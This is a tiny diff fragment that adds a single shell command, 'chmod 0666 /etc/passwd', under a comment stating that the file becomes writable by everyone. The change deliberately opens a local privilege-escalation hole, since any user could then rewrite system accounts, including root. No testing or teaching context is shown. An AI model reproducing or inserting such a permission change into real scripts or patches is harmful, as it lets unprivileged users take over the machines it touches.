@@ -1,0 +1,2 @@
+# /etc/passwd writable by everyone
+chmod 0666 /etc/passwd
